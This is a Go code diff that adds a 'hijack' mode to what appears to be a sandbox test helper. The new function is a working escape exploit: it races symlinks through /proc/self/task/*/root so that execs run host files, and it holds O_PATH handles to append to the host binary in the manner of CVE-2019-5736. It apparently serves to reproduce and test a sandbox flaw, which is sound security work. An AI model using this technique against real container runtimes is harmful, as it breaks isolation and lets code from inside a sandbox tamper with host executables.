@@ -9,7 +9,10 @@ import (
 	"fmt"
 	"os"
 	"runtime"
+	"strconv"
+	"strings"
 	"syscall"
+	"time"
 	"unsafe"
 
 	"golang.org/x/sys/unix"
@@ -46,6 +49,12 @@ func main() {
 	case "write":
 		err := os.WriteFile(os.Args[2], []byte(os.Args[3]), 0)
 		report("write "+os.Args[2], err)
+	case "hijack":
+		hijack(os.Args[2], os.Args[3:])
+	case "-c":
+		// Run as a shell (argv[1] "-c"): only a hijacked exec gets here,
+		// through a link the box planted to this program on the host.
+		fmt.Println("hijacked: the host's file ran")
 	case "open":
 		for _, p := range os.Args[2:] {
 			f, err := os.OpenFile(p, os.O_RDONLY, 0)
@@ -175,4 +184,84 @@ func syscalls() {
 	src, dst, fstype := []byte("none\x00"), []byte("/tmp\x00"), []byte("tmpfs\x00")
 	report("mount", raw(unix.SYS_MOUNT, uintptr(unsafe.Pointer(&src[0])), uintptr(unsafe.Pointer(&dst[0])), uintptr(unsafe.Pointer(&fstype[0])), 0, 0))
 	report("getpid", raw(unix.SYS_GETPID))
+}
+
+// hijack is the attack on pbox exec of issue 19: it keeps every LINK of
+// its LINK=HOSTPATH arguments (/bin/sh, a script's interpreter, a working
+// directory) pointing at /proc/self/task/T/root/HOSTPATH, for T a thread of a process that has
+// just appeared in the box other than its leader (the multi-threaded exec
+// stage pbox had, whose other threads kept the host's root) or, with no
+// such process in sight, the pid the kernel hands out next but one. An
+// exec that resolves such a link in a process with a host-rooted thread
+// runs HOST, a file of the host. It also keeps an O_PATH handle on the
+// exe of any process that runs HOST and tries to append to it once that
+// process is gone (the overwrite of CVE-2019-5736). It runs until killed,
+// printing what it did.
+func hijack(host string, links []string) {
+	var handles []int
+	tried := map[int]bool{}
+	self := os.Getpid()
+	for round := 0; ; round++ {
+		target := 0
+		if ents, err := os.ReadDir("/proc"); err == nil {
+			for _, e := range ents {
+				pid, err := strconv.Atoi(e.Name())
+				if err != nil || pid == 1 || pid == self {
+					continue
+				}
+				if exe, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid)); err == nil && exe == host && !tried[pid] {
+					if fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
+						tried[pid] = true
+						handles = append(handles, fd)
+						fmt.Printf("hijack: holding the exe of pid %d (%s)\n", pid, exe)
+					}
+				}
+				tasks, err := os.ReadDir(fmt.Sprintf("/proc/%d/task", pid))
+				if err != nil {
+					continue
+				}
+				for _, task := range tasks {
+					if tid, err := strconv.Atoi(task.Name()); err == nil && tid != pid {
+						target = tid
+					}
+				}
+			}
+		}
+		if target == 0 {
+			if data, err := os.ReadFile("/proc/sys/kernel/ns_last_pid"); err == nil {
+				last, _ := strconv.Atoi(strings.TrimSpace(string(data)))
+				target = last + 2
+			}
+		}
+		for _, arg := range links {
+			l, path, _ := strings.Cut(arg, "=")
+			to := fmt.Sprintf("/proc/self/task/%d/root%s", target, path)
+			tmp := l + ".hijack"
+			os.Remove(tmp)
+			if os.Symlink(to, tmp) == nil {
+				os.Rename(tmp, l) // atomic: the name is a link at every instant
+			}
+		}
+		// Processes that ran the host's file and are gone: write to it.
+		for i, fd := range handles {
+			if fd < 0 {
+				continue
+			}
+			w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY|os.O_APPEND, 0)
+			if err == nil {
+				_, err = w.Write([]byte("\nwritten by the box\n"))
+				w.Close()
+			}
+			if err == nil || round%200 == 0 {
+				report("hijack: append to the host's file", err)
+			}
+			if err == nil {
+				unix.Close(fd)
+				handles[i] = -1
+			}
+		}
+		if round%50 == 0 {
+			time.Sleep(time.Millisecond)
+		}
+	}
 }
